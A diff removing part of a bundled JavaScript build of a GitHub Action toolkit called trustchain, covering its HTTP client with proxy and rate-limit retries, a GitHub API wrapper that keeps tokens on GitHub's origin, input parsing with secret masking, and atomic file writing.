-    return url.hostname === "localhost" || url.hostname === "[::1]" || /^127(\.\d{1,3}){3}$/.test(url.hostname);
-}
-function harmless(headers) {
-    return new Headers([...headers].filter(([name]) => HARMLESS.has(name)));
-}
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/http/proxy-of.js
-
-/**
- * The proxy to take for a https address, if any: `HTTPS_PROXY`, unless `NO_PROXY` names the host. Of the two spellings
- * the lower case goes first, as in curl. This machine is never looked for behind a proxy.
- */
-function proxyOf(url, env) {
-    const proxy = env.https_proxy || env.HTTPS_PROXY;
-    if (!proxy || isLoopback(url))
-        return undefined;
-    const exceptions = (env.no_proxy || env.NO_PROXY || "").toLowerCase().split(/[\s,]+/);
-    return exceptions.some((exception) => covers(exception, url)) ? undefined : proxy;
-}
-/** `*`, `example.com` and `.example.com` (the host and all below it), `*.example.com`, each with or without a port. */
-function covers(exception, url) {
-    if (exception === "*")
-        return true;
-    const [, name = "", port] = /^(?:\*?\.)?(.+?)(?::(\d+))?$/.exec(exception) ?? [];
-    if (name === "" || (port !== undefined && port !== (url.port || "443")))
-        return false;
-    return url.hostname === name || url.hostname.endsWith(`.${name}`);
-}
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/http/retry.js
-/** How often a request is tried in all. */
-const TRIES = 3;
-/** The longest that one request waits between its tries, all together. */
-const LONGEST_WAIT = 60_000;
-const FIRST_PAUSE = 500;
-/** What GitHub asks to wait when a secondary limit says nothing else. */
-const SECONDARY_LIMIT_PAUSE = 60_000;
-const IDEMPOTENT = new Set(["GET", "HEAD", "OPTIONS", "PUT", "DELETE"]);
-const TRANSIENT = new Set([500, 502, 503, 504]);
-/** May a request be sent again when nobody knows whether it was carried out? (RFC 9110, section 9.2.2) */
-function isIdempotent(method) {
-    return IDEMPOTENT.has(method);
-}
-/** The pause after the `attempt`-th try (from 1): doubled each time, and between a half and all of that, so that clients spread. */
-function backOff(attempt, random) {
-    return Math.round(FIRST_PAUSE * 2 ** (attempt - 1) * (0.5 + random / 2));
-}
-/**
- * Does an answer ask to come again later?
- *
- * @param body the answer's text, asked for only where headers don't tell
- * @see RFC 9110, section 10.2.3 (Retry-After); GitHub, "Rate limits for the REST API"
- */
-function refusalOf(status, headers, body, now) {
-    if (status === 429 || status === 403) {
-        const wait = retryAfter(headers, now) ?? limitReset(headers, now);
-        if (status === 429 || wait !== undefined)
-            return { limited: true, wait };
-        return /secondary rate limit/i.test(body()) ? { limited: true, wait: SECONDARY_LIMIT_PAUSE } : undefined;
-    }
-    return TRANSIENT.has(status) ? { limited: false, wait: retryAfter(headers, now) } : undefined;
-}
-/** Seconds or a date. */
-function retryAfter(headers, now) {
-    const value = headers.get("retry-after")?.trim() ?? "";
-    if (/^\d{1,9}$/.test(value))
-        return Number(value) * 1000;
-    const date = value === "" ? Number.NaN : Date.parse(value);
-    return Number.isNaN(date) ? undefined : Math.max(0, date - now);
-}
-/** GitHub's primary limit: nothing remains until a second since 1970. */
-function limitReset(headers, now) {
-    const reset = headers.get("x-ratelimit-reset") ?? "";
-    if (headers.get("x-ratelimit-remaining") !== "0" || !/^\d{1,12}$/.test(reset))
-        return undefined;
-    return Math.max(0, Number(reset) * 1000 - now);
-}
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/http/client.js
-
-
-
-
-
-
-
-
-const REDIRECT_LIMIT = 5;
-/** Makes the client; nothing is opened before the first request. */
-function createHttp(options) {
-    const { clock = http_clock/* systemClock */.m, timeout = 30_000, maxBytes = 32 * 1024 * 1024 } = options;
-    const deadlineAt = clock.now() + (options.deadline ?? 600_000);
-    /** One try: a whole answer, or what stood in its way. */
-    async function attempt(request, first) {
-        let hop = first;
-        for (let followed = 0; followed <= REDIRECT_LIMIT; followed++) {
-            const remaining = deadlineAt - clock.now();
-            if (remaining <= 0)
-                throw tooLate(request.doing);
-            const fetch = await fetchFor(hop.url, options.env);
-            const limits = { timeout, remaining, maxBytes: request.maxBytes ?? maxBytes };
-            const answer = await exchange(fetch, hop, limits, request.doing);
-            const next = redirected(hop, answer.status, answer.headers.get("location"), request.doing);
-            if (!next)
-                return answer;
-            hop = next;
-        }
-        throw new user_error/* UserError */.y(request.doing, `${hop.url.host} redirects in a circle`, "check the address that was asked");
-    }
-    async function request(request) {
-        const hop = firstHop(request);
-        if (options.offline)
-            throw offlineError(request.doing, hop.url);
-        let waited = 0;
-        for (let tried = 1;; tried++) {
-            const result = await attempt(request, hop).catch(asTrouble);
-            const trouble = result instanceof NetworkTrouble ? fromNetwork(result) : fromAnswer(result, clock.now());
-            if (!trouble)
-                return result;
-            const again = trouble.limited || isIdempotent(hop.method);
-            if (!again || tried === TRIES)
-                throw gaveUp(request.doing, trouble, tried);
-            const pause = trouble.wait ?? backOff(tried, clock.random());
-            waited += pause;
-            if (waited > LONGEST_WAIT || clock.now() + pause >= deadlineAt) {
-                throw tooLong(request.doing, trouble, clock.now() + pause);
-            }
-            await clock.sleep(pause);
-        }
-    }
-    return { request };
-}
-/** The body of an answer as text; bytes that are no UTF-8 become U+FFFD. */
-function textOf(response) {
-    return new TextDecoder().decode(response.body);
-}
-/**
- * The body of an answer as JSON.
- *
- * @throws UserError when it is none
- */
-function jsonOf(response, doing) {
-    try {
-        return JSON.parse(textOf(response));
-    }
-    catch {
-        throw new UserError(doing, `${new URL(response.url).host} did not answer with JSON`, "check the address, or try again later");
-    }
-}
-function firstHop(request) {
-    const url = parseUrl(request.url);
-    if (url === undefined)
-        throw new user_error/* UserError */.y(request.doing, `\`${request.url}\` is no URL`, "give an https address");
-    requireSafe(url, request.doing);
-    const headers = new Headers({ "user-agent": `trustchain/${version/* VERSION */.x}`, ...request.headers });
-    return { url, method: (request.method ?? "GET").toUpperCase(), headers, body: request.body };
-}
-async function fetchFor(url, env) {
-    const proxy = proxyOf(url, env);
-    return proxy === undefined ? globalThis.fetch : (await Promise.all(/* import() */[__nccwpck_require__.e(752), __nccwpck_require__.e(10)]).then(__nccwpck_require__.bind(__nccwpck_require__, 5010))).proxiedFetch(proxy);
-}
-function asTrouble(error) {
-    if (error instanceof NetworkTrouble)
-        return error;
-    throw error;
-}
-function fromNetwork(trouble) {
-    return { limited: false, wait: undefined, reason: trouble.message };
-}
-function fromAnswer(answer, now) {
-    const refusal = refusalOf(answer.status, answer.headers, () => textOf(answer), now);
-    if (!refusal)
-        return undefined;
-    const { host } = new URL(answer.url);
-    const reason = refusal.limited ? `${host} allows no more requests now` : `${host} answered ${answer.status}`;
-    return { ...refusal, reason };
-}
-function offlineError(doing, url) {
-    return new user_error/* UserError */.y(doing, `needs ${url.host}, and \`offline\` forbids every connection`, "leave `offline` out, or do without this");
-}
-function tooLate(doing) {
-    return new user_error/* UserError */.y(doing, "the time for all requests is used up", "try again, or ask for less at once");
-}
-function gaveUp(doing, trouble, tried) {
-    const times = tried === 1 ? "" : ` (tried ${tried} times)`;
-    return new user_error/* UserError */.y(doing, `${trouble.reason}${times}`, "check the network, or try again later");
-}
-function tooLong(doing, trouble, until) {
-    const time = new Date(Math.min(until, 8.64e15)).toISOString().slice(0, 19);
-    const remedy = trouble.limited
-        ? `try again after ${time}Z, or give a token with a higher limit`
-        : `try again after ${time}Z`;
-    return new user_error/* UserError */.y(doing, trouble.reason, remedy);
-}
-
-
-/***/ }),
-
-/***/ 2668:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-
-// EXPORTS
-__nccwpck_require__.d(__webpack_exports__, {
-  m: () => (/* binding */ systemClock)
-});
-
-;// CONCATENATED MODULE: external "node:timers/promises"
-const promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:timers/promises");
-;// CONCATENATED MODULE: ./packages/action-kit/lib/http/clock.js
-
-const systemClock = {
-    now: Date.now,
-    sleep: async (milliseconds) => void (await (0,promises_namespaceObject.setTimeout)(milliseconds)),
-    random: Math.random,
-};
-
-
-/***/ }),
-
-/***/ 8307:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   C: () => (/* binding */ createGitHub),
-/* harmony export */   F: () => (/* binding */ HttpStatusError)
-/* harmony export */ });
-/* harmony import */ var _user_error_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(5561);
-/* harmony import */ var _version_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(3465);
-
-
-/** GitHub answered, but with a status that is no success. */
-class HttpStatusError extends _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y {
-    status;
-    constructor(place, reason, remedy, status) {
-        super(place, reason, remedy);
-        this.status = status;
-    }
-}
-/** Makes the client; `@octokit/rest` is loaded now and by nothing else. */
-async function createGitHub({ http, token, env }) {
-    const { Octokit } = await __nccwpck_require__.e(/* import() */ 891).then(__nccwpck_require__.bind(__nccwpck_require__, 891));
-    const baseUrl = (env.GITHUB_API_URL || "https://api.github.com").replace(/\/+$/, "");
-    const octokit = new Octokit({
-        baseUrl,
-        userAgent: `trustchain/${_version_js__WEBPACK_IMPORTED_MODULE_1__/* .VERSION */ .x}`,
-        log: { debug() { }, info() { }, warn() { }, error() { } },
-        request: { fetch: fetchThrough(http, new URL(baseUrl).origin) },
-        ...(token ? { auth: token } : {}),
-    });
-    return {
-        async ask(doing, call) {
-            try {
-                return (await call(octokit.rest)).data;
-            }
-            catch (error) {
-                throw named(error, doing, token !== undefined);
-            }
-        },
-    };
-}
-/** Octokit's way to the network: ours. The token stays with GitHub, wherever a `link` header points. */
-function fetchThrough(http, origin) {
-    return async (url, { method, headers, body }) => {
-        const target = new URL(url);
-        const { authorization, ...others } = headers;
-        const sent = target.origin === origin && authorization !== undefined ? { ...others, authorization } : others;
-        const doing = `${method} ${target.pathname}`;
-        const answer = await http.request({ doing, url, method, headers: sent, ...(body === undefined ? {} : { body }) });
-        // These describe the bytes on the wire, which are unpacked by now; a Response with such a status may hold no body.
-        const plain = new Headers(answer.headers);
-        plain.delete("content-encoding");
-        plain.delete("content-length");
-        const empty = [204, 205, 304].includes(answer.status);
-        return new Response(empty ? null : answer.body, { status: answer.status, headers: plain });
-    };
-}
-/** Octokit wraps what our client throws; other failures are answers. */
-function named(error, doing, withToken) {
-    if (!(error instanceof Error))
-        return error;
-    if (error.cause instanceof _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y)
-        return new _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y(doing, error.cause.reason, error.cause.remedy);
-    const status = error.status;
-    if (typeof status !== "number")
-        return error;
-    return new HttpStatusError(doing, `GitHub answered ${status} (${answerOf(error)})`, remedyFor(status, withToken), status);
-}
-/** Octokit appends the documentation's address to GitHub's message. */
-function answerOf(error) {
-    const [message = ""] = error.message.split(" - http");
-    return message.slice(0, 300);
-}
-function remedyFor(status, withToken) {
-    if (status === 401)
-        return "give a valid token";
-    if (status === 403)
-        return "give the token the permission for it";
-    if (status === 404 && !withToken)
-        return "check the name, or give a token that may see it";
-    if (status === 404)
-        return "check the name, and that the token may see it";
-    return "check the request, or try again later";
-}
-
-
-/***/ }),
-
-/***/ 3978:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-
-// EXPORTS
-__nccwpck_require__.d(__webpack_exports__, {
-  yo: () => (/* reexport */ user_error/* UserError */.y),
-  xv: () => (/* reexport */ version/* VERSION */.x),
-  sw: () => (/* reexport */ checkInputs),
-  n2: () => (/* reexport */ checkOutputs),
-  QP: () => (/* reexport */ defineAction),
-  au: () => (/* reexport */ didYouMean),
-  Tf: () => (/* reexport */ runOnRunner),
-  tG: () => (/* reexport */ write_file_whole_writeFileWhole)
-});
-
-// UNUSED EXPORTS: HttpStatusError, NOTHING_ASKED, NO_PROGRESS, REPORT_FORMATS, alternatives, boolean, choice, codeOf, countFailing, createGitHub, createHttp, describeError, describeReportError, duration, editDistance, exitStatusOf, explain, failOn, integer, jsonOf, list, memoryHost, messageOf, nearest, oneLine, parseInputs, path, placeOfInput, quote, redact, requireFolderOf, runInTerminal, runOnHost, secret, systemClock, terminalHost, text, textOf, writeResult
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/inputs/input.js
-/** How messages call an input. */
-function placeOfInput(name, place) {
-    return place === "terminal" ? `--${name}` : `input ${name}`;
-}
-/**
- * Reads all inputs of an action.
- *
- * @returns an object without a prototype: an input may have any name
- * @throws UserError for the first input that can't be read, in the order of the declaration
- */
-function parseInputs(inputs, source) {
-    const values = Object.create(null);
-    for (const [name, input] of Object.entries(inputs)) {
-        values[name] = input.read(source.input(name), placeOfInput(name, source.place));
-    }
-    return values;
-}
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/action.js
-
-/** Declares an action: the one place that says its inputs, outputs and rights. */
-function defineAction(declaration) {
-    return {
-        ...declaration,
-        main: (run) => ({
-            async start(host, request) {
-                maskSecrets(declaration.inputs, host);
-                const inputs = parseInputs(declaration.inputs, host);
-                return { outcome: await run({ inputs, host, request }), settings: settingsOf(inputs) };
-            },
-        }),
-    };
-}
-/** Before anything is read, so that no message about another input can show one. */
-function maskSecrets(inputs, host) {
-    for (const [name, input] of Object.entries(inputs)) {
-        if (input.kind !== "secret")
-            continue;
-        for (const { text } of host.input(name))
-            if (text !== "")
-                host.mask(text);
-    }
-}
-/** `checkInputs` types these inputs; an action that has none of them fails on nothing and sends nothing. */
-function settingsOf(inputs) {
-    const token = inputs["github-token"];
-    return {
-        failOn: inputs["fail-on"] ?? "never",
-        offline: inputs.offline === true,
-        uploadSarif: inputs["upload-sarif"] === true,
-        token: typeof token === "string" ? token : undefined,
-    };
-}
-
-// EXTERNAL MODULE: ./packages/action-kit/lib/system-error.js
-var system_error = __nccwpck_require__(9363);
-// EXTERNAL MODULE: ./packages/action-kit/lib/user-error.js
-var user_error = __nccwpck_require__(5561);
-;// CONCATENATED MODULE: ./packages/action-kit/lib/describe-error.js
-
-
-const DEFECT = "this is a defect of trustchain: please report it with this line (TRUSTCHAIN_DEBUG=1 adds where it happened)";
-/**
- * An error as the lines that a user reads, without `error:`. One line, and the stack behind it where `debug` asks for it.
- * What is no `UserError` is our own mistake and says so.
- */
-function describe_error_describeError(error, debug) {
-    const known = asUserError(error);
-    const line = known ? known.message : `trustchain: ${(0,system_error/* messageOf */.bD)(error)}: ${DEFECT}`;
-    if (!debug)
-        return [line];
-    const stack = error?.stack ?? "";
-    return [line, ...stack.split("\n").slice(1)];
-}
-/** An entry of a report's `errors` as such a line. */
-function describe_error_describeReportError(error) {
-    const place = `${error.path}:${error.line}`;
-    return error.rule === null
-        ? `${place}: ${error.message}`
-        : `${place}: rule ${error.rule}: ${error.message}: ${DEFECT}`;
-}
-/** The packages below this one can't throw a `UserError`: theirs has `file`, `line`, `reason` and `remedy`. */
-function asUserError(error) {
-    if (error instanceof user_error/* UserError */.y)
-        return error;
-    if (!(error instanceof Error) || error.name !== "FormatError")
-        return undefined;
-    const { file, line, reason, remedy } = error;
-    if (file === undefined || reason === undefined || remedy === undefined)
-        return undefined;
-    return new user_error/* UserError */.y(line === undefined ? file : `${file}:${line}`, reason, remedy);
-}
-
-// EXTERNAL MODULE: ./packages/action-kit/lib/host/host.js
-var host = __nccwpck_require__(6416);
-;// CONCATENATED MODULE: ./packages/action-kit/lib/host/memory-host.js
-
-
-/** @param inputs the values by name; several for a repeated option */
-function memoryHost(inputs = {}, options = {}) {
-    const given = new Map(Object.entries(inputs).map(([name, value]) => [name, [value].flat().map(asGiven)]));
-    const secrets = new Set();
-    const host = {
-        place: options.place ?? "terminal",
-        cwd: options.cwd ?? ".",
-        env: options.env ?? {},
-        outputs: new Map(),
-        notes: [],
-        summaries: [],
-        lines: [],
-        errors: [],
-        secrets,
-        input: (name) => given.get(name) ?? [],
-        mask: (secret) => void secrets.add(secret),
-        setOutput: (name, value) => void host.outputs.set(name, value),
-        annotate: (note) => void host.notes.push(note),
-        summarize: async (markdown) => void host.summaries.push(markdown),
-        progress: () => NO_PROGRESS,
-        log: (line) => void host.lines.push(redact(line, secrets)),
-        error: (line) => void host.errors.push(redact(line, secrets)),
-    };
-    return host;
-}
-function asGiven(text) {
-    return { text, whole: false };
-}
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/host/output-stream.js
-
-
-/** The reader went away (`| head`), or an earlier write found that out. */
-const CLOSED = new Set(["EPIPE", "ERR_STREAM_DESTROYED", "ERR_STREAM_WRITE_AFTER_END"]);
-/**
- * Writes a result and waits until the system has taken all of it, so that the process may end afterwards.
- * A reader that went away is no error: it has seen what it wanted.
- *
- * @throws UserError when it can't be written, for example to a full device
- */
-function output_stream_writeResult(stream, text) {
-    return new Promise((resolve, reject) => {
-        const settle = (error) => {
-            if (!error || CLOSED.has(codeOf(error)))
-                resolve();
-            else
-                reject(new UserError("standard output", explain(error), "free space or redirect the output elsewhere"));
-        };
-        stream.on("error", settle);
-        try {
-            stream.write(text, settle);
-        }
-        catch (error) {
-            settle(error);
-        }
-    });
-}
-
-// EXTERNAL MODULE: ./packages/action-kit/lib/one-line.js
-var one_line = __nccwpck_require__(9316);
-;// CONCATENATED MODULE: ./packages/action-kit/lib/host/terminal-host.js
-
-
-
-
-/** The host of the command line: inputs are options, everything said goes to stderr; outputs, notes and summaries are for runners only. */
-function terminalHost(options) {
-    const { given, stderr, quiet } = options;
-    const secrets = new Set();
-    // Nothing can be done about a stderr that is closed or full, and without a listener it would end the process.
-    stderr.on("error", () => { });
-    const say = (line) => {
-        try {
-            stderr.write(`${oneLine(redact(line, secrets))}\n`);
-        }
-        catch {
-            // The same for a device that refuses at once.
-        }
-    };
-    return {
-        place: "terminal",
-        cwd: options.cwd,
-        env: options.env,
-        input: (name) => given.get(name) ?? [],
-        mask: (secret) => void secrets.add(secret),
-        setOutput() { },
-        annotate() { },
-        async summarize() { },
-        progress(label, total) {
-            const visible = options.progress && !quiet && stderr.isTTY === true;
-            return visible ? progressBar(label, total, stderr, performance) : NO_PROGRESS;
-        },
-        log(line) {
-            if (!quiet)
-                say(line);
-        },
-        error: (line) => say(`error: ${line}`),
-    };
-}
-
-// EXTERNAL MODULE: ./packages/action-kit/lib/http/client.js + 5 modules
-var client = __nccwpck_require__(9587);
-// EXTERNAL MODULE: ./packages/action-kit/lib/http/clock.js + 1 modules
-var clock = __nccwpck_require__(2668);
-// EXTERNAL MODULE: ./packages/action-kit/lib/http/github.js
-var github = __nccwpck_require__(8307);
-;// CONCATENATED MODULE: ./packages/action-kit/lib/nearest.js
-/** Longer words are nobody's typing error, and comparing them would cost the product of their lengths. */
-const LONGEST = 64;
-/**
- * The candidate that `word` was most likely meant to be, or undefined when none is close: at most one edit for each
- * three characters of the word (at least one). Case does not count. Of equally near candidates the first is taken.
- */
-function nearest(word, candidates) {
-    if (word.length > LONGEST)
-        return undefined;
-    const wanted = word.toLowerCase();
-    let best;
-    let bestDistance = Math.max(1, Math.floor(word.length / 3)) + 1;
-    for (const candidate of candidates) {
-        if (candidate.length > LONGEST)
-            continue;
-        const distance = editDistance(wanted, candidate.toLowerCase());
-        if (distance < bestDistance) {
-            best = candidate;
-            bestDistance = distance;
-        }
-    }
-    return best;
-}
-/** ` (did you mean `x`?)`, or nothing: the tail of a message about an unknown word. */
-function didYouMean(word, candidates, prefix = "") {
-    const candidate = nearest(word, candidates);
-    return candidate === undefined ? "" : ` (did you mean \`${prefix}${candidate}\`?)`;
-}
-/**
- * Damerau–Levenshtein distance in its restricted form (optimal string alignment): insertions, deletions, substitutions
- * and swaps of neighbours, no part edited twice.
- */
-function editDistance(a, b) {
-    let beforePrevious = [];
-    let previous = Array.from({ length: b.length + 1 }, (_, j) => j);
-    for (let i = 1; i <= a.length; i++) {
-        const current = [i];
-        for (let j = 1; j <= b.length; j++) {
-            const same = a[i - 1] === b[j - 1];
-            let distance = Math.min(previous[j] + 1, current[j - 1] + 1, previous[j - 1] + (same ? 0 : 1));
-            if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) {
-                distance = Math.min(distance, beforePrevious[j - 2] + 1);
-            }
-            current.push(distance);
-        }
-        beforePrevious = previous;
-        previous = current;
-    }
-    return previous[b.length];
-}
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/quote.js
-const quote_LONGEST = 80;
-/** What was given, in backticks and cut where it is long, for a message. */
-function quote_quote(given) {
-    return `\`${given.length > quote_LONGEST ? `${given.slice(0, quote_LONGEST)}…` : given}\``;
-}
-/** `a, b or c`. */
-function alternatives(words) {
-    if (words.length < 2)
-        return words.join("");
-    return `${words.slice(0, -1).join(", ")} or ${words.at(-1)}`;
-}
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/inputs/builders.js
-
-
-
-function builders_text(options) {
-    return scalar("text", "TEXT", options, (given) => given);
-}
-function path(options) {
-    return scalar("path", options.hint ?? "FILE", options, (given, place) => {
-        if (given === "")
-            throw new user_error/* UserError */.y(place, "the path is empty", "give the path of a file");
-        return given;
-    });
-}
-function choice(words, options) {
-    const input = scalar("choice", words.join("|"), options, (given, place) => {
-        const word = words.find((known) => known === given);
-        if (word !== undefined)
-            return word;
-        throw new user_error/* UserError */.y(place, `${quote_quote(given)} is not accepted${didYouMean(given, words)}`, `use ${alternatives(words)}`);
-    });
-    return { ...input, choices: words };
-}
-function integer(options) {
-    const { min = 0, max = Number.MAX_SAFE_INTEGER } = options;
-    return scalar("integer", "N", options, (given, place) => {
-        const value = /^\d{1,16}$/.test(given) ? Number(given) : Number.NaN;
-        if (value >= min && value <= max)
-            return value;
-        const range = options.max === undefined ? `at least ${min}` : `from ${min} to ${max}`;
-        const wrong = Number.isNaN(value) ? "is not a whole number" : "is out of range";
-        throw new UserError(place, `${quote(given)} ${wrong}`, `give digits, ${range}`);
-    });
-}
-const MILLISECONDS = new Map([
-    ["s", 1_000],
-    ["m", 60_000],
-    ["h", 3_600_000],
-    ["d", 86_400_000],
-]);
-function duration(options) {
-    const { default: written, ...rest } = options;
-    const fallback = written === undefined ? {} : { default: parseDuration(written, "default") };
-    return { ...scalar("duration", "TIME", { ...rest, ...fallback }, parseDuration), default: written };
-}
-function parseDuration(given, place) {
-    const [, digits, unit = ""] = /^(\d{1,9})([smhd])$/.exec(given) ?? [];
-    const factor = MILLISECONDS.get(unit);
-    if (digits !== undefined && factor !== undefined)
-        return Number(digits) * factor;
-    throw new UserError(place, `${quote(given)} is not a span of time`, "give digits and a unit: seconds `30s`, minutes `5m`, hours `2h` or days `7d`");
-}
-const TRUE = ["true", "True", "TRUE"];
-const FALSE = ["false", "False", "FALSE"];
-/** Yes or no, in the words of YAML 1.2's core schema (section 10.3.2), as @actions/core reads them. False unless the default says otherwise. */
-function builders_boolean(options) {
-    const input = scalar("boolean", "", { default: false, ...options }, (given, place) => {
-        if (TRUE.includes(given))
-            return true;
-        if (FALSE.includes(given))
-            return false;
-        throw new user_error/* UserError */.y(place, `${quote_quote(given)} is neither true nor false${didYouMean(given, ["true", "false"])}`, "use true or false");
-    });
-    return input;
-}
-/** Words: given repeatedly, or separated by commas or newlines. Spaces around a word and empty words don't count. */
-function list(options) {
-    const fallback = options.default ?? [];
-    return {
-        ...described("list", options.hint ?? "WORD", options),
-        default: options.default?.join("\n"),
-        operands: options.operands ?? false,
-        read(given) {
-            const words = given.flatMap(wordsOf);
-            return words.length > 0 ? words : fallback;
-        },
-    };
-}
-function wordsOf(given) {
-    if (given.whole)
-        return [given.text];
-    return given.text
-        .split(/[,\r\n]/)
-        .map((word) => word.trim())
-        .filter((word) => word !== "");
-}
-/**
- * A token or password: masked on the runner and never printed. An empty one counts as not given, so that
- * `--github-token "$TOKEN"` works with and without the variable.
- */
-function secret(options) {
-    return {
-        ...described("secret", "SECRET", options),
-        default: options.default,
-        read: (given) => given.at(-1)?.text || undefined,
-    };
-}
-/** An input of one value, of which the last given counts. */
-function scalar(kind, hint, options, parse) {
-    return {
-        ...described(kind, hint, options),
-        default: options.default === undefined ? undefined : String(options.default),
-        required: options.required ?? false,
-        read(given, place) {
-            const last = given.at(-1);
-            if (last !== undefined)
-                return parse(last.text, place);
-            if (options.required)
-                throw new user_error/* UserError */.y(place, "is required and was not given", `give ${hint}`);
-            return options.default;
-        },
-    };
-}
-function described(kind, hint, options) {
-    return {
-        kind,
-        hint,
-        description: options.description,
-        required: false,
-        runnerOnly: options.runnerOnly ?? false,
-        operands: false,
-        choices: undefined,
-    };
-}
-
-// EXTERNAL MODULE: ./packages/findings/lib/index.js + 9 modules
-var lib = __nccwpck_require__(1001);
-;// CONCATENATED MODULE: ./packages/action-kit/lib/inputs/check-inputs.js
-
-
-/** The input `fail-on` with a default of the action's own. */
-function failOn(fallback) {
-    return choice([...lib/* SEVERITIES */.oC, "never"], {
-        default: fallback,
-        description: "Fail (exit status 1) when a finding has at least this severity",
-    });
-}
-/** The inputs that every check has; an action spreads them among its own. */
-const checkInputs = {
-    paths: list({
-        default: ["."],
-        hint: "PATH",
-        operands: true,
-        description: "What to judge: folders of repositories, or single workflow, action and Dependabot files; separated by commas or newlines",
-    }),
-    "fail-on": failOn("medium"),
-    persona: choice(lib/* PERSONAS */.Ud, {
-        description: "For whom: `regular`, what nearly everyone wants fixed; `pedantic`, also style and hygiene; `auditor`, also what is only worth an auditor's look. Without it the configuration's counts, else `regular`",
-    }),
-    config: path({ description: "Settings; without it `.github/trustchain.yml` of the repository" }),
-    baseline: path({ description: "Known findings, by fingerprint: they are reported as suppressed" }),
-    offline: builders_boolean({ description: "Open no network connection, whatever else is asked" }),
-    "upload-sarif": builders_boolean({
-        runnerOnly: true,
-        description: "Send the findings to GitHub code scanning (needs the permission `security-events: write`)",
-    }),
-    "github-token": secret({
-        runnerOnly: true,
-        default: "${{ github.token }}",
-        description: "The token that sends the findings to code scanning",
-    }),
-};
-/** The outputs that every check has. */
-const checkOutputs = {
-    findings: "Number of findings at or above `fail-on`",
-    report: "Path of the JSON report",
-    sarif: "Path of the SARIF report",
-};
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/run/outcome.js
-
-const NOTHING_ASKED = { fix: "off", diff: false };
-/** How many unsuppressed findings are at or above the threshold. */
-function countFailing(report, failOn) {
-    if (failOn === "never")
-        return 0;
-    return report.findings.filter((finding) => !finding.suppressed && (0,lib/* isAtLeast */.du)(finding.severity, failOn)).length;
-}
-function outcome_exitStatusOf(report, failOn) {
-    if (!report)
-        return 0;
-    if (report.errors.length > 0)
-        return 2;
-    return countFailing(report, failOn) > 0 ? 1 : 0;
-}
-
-// EXTERNAL MODULE: external "node:fs"
-var external_node_fs_ = __nccwpck_require__(3024);
-// EXTERNAL MODULE: external "node:path"
-var external_node_path_ = __nccwpck_require__(6760);
-;// CONCATENATED MODULE: ./packages/action-kit/lib/write-file-whole.js
-
-
-
-
-
-/**
- * Writes a file whole or not at all: into a new file beside it that then takes its name. All steps are synchronous, so
- * that no handler of a signal runs between them. Rights of an existing file are kept, a symbolic link is followed, and
- * what is no regular file (a device, a pipe) is written to directly.
- *
- * @param place how an error calls the file: the option that named it, or the path itself
- * @throws UserError when the file can't be written; a former file is then as it was
- */
-function write_file_whole_writeFileWhole(path, content, place = path) {
-    requireFolderOf(path, place);
-    try {
-        const former = (0,external_node_fs_.statSync)(path, { throwIfNoEntry: false });
-        if (former?.isDirectory())
-            throw new user_error/* UserError */.y(place, `${quote_quote(path)} is a folder`, "name a file");
-        if (former && !former.isFile())
-            (0,external_node_fs_.writeFileSync)(path, content);
-        else
-            replaceFile(former ? (0,external_node_fs_.realpathSync)(path) : path, content, former?.mode);
-    }
-    catch (error) {
-        if (error instanceof user_error/* UserError */.y)
-            throw error;
-        throw new user_error/* UserError */.y(place, `${quote_quote(path)} can't be written, ${(0,system_error/* explain */.WE)(error)}`, "mend that or choose another file");
-    }
-}
-/**
- * Is there a folder to write `path` into?
- *
- * @throws UserError when there is none
- */
-function requireFolderOf(path, place) {
-    const folder = (0,external_node_path_.dirname)(path);
-    let found = false;
-    try {
-        found = (0,external_node_fs_.statSync)(folder, { throwIfNoEntry: false })?.isDirectory() ?? false;
-    }
-    catch (error) {
-        if ((0,system_error/* codeOf */.$N)(error) !== "ENOTDIR") {
-            throw new user_error/* UserError */.y(place, `folder ${quote_quote(folder)} can't be read, ${(0,system_error/* explain */.WE)(error)}`, "choose another file");
-        }
-    }
-    if (!found)
-        throw new user_error/* UserError */.y(place, `folder ${quote_quote(folder)} does not exist`, "create it or choose another file");
-}
-function replaceFile(path, content, mode) {
-    // Should the name be taken after all, opening it fails: chance has only to make that rare.
-    const chance = Math.random().toString(36).slice(2);
-    const beside = (0,external_node_path_.join)((0,external_node_path_.dirname)(path), `.${(0,external_node_path_.basename)(path).slice(0, 100)}.${process.pid}-${chance}.tmp`);
-    const file = (0,external_node_fs_.openSync)(beside, "wx", 0o666);
-    try {
-        try {
-            if (mode !== undefined)
-                (0,external_node_fs_.fchmodSync)(file, mode & 0o7777);
-            (0,external_node_fs_.writeFileSync)(file, content);
-        }
-        finally {
-            (0,external_node_fs_.closeSync)(file);
-        }
-        (0,external_node_fs_.renameSync)(beside, path);
-    }
-    catch (error) {
-        (0,external_node_fs_.rmSync)(beside, { force: true });
-        throw error;
-    }
-}
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/run/run-in-terminal.js
-
-
-
-
-
-
-const REPORT_FORMATS = (/* unused pure expression or super */ null && (["text", "json", "sarif", "markdown", "github"]));
-/**
- * Runs an action for the command line: results go to `stdout` or the file asked for, everything else through the host.
- *
- * @returns the exit status; never rejects
- */
-async function runInTerminal(main, host, request, presentation, stdout) {
-    try {
-        const { outcome, settings } = await main.start(host, request);
-        const status = exitStatusOf(outcome.report, settings.failOn);
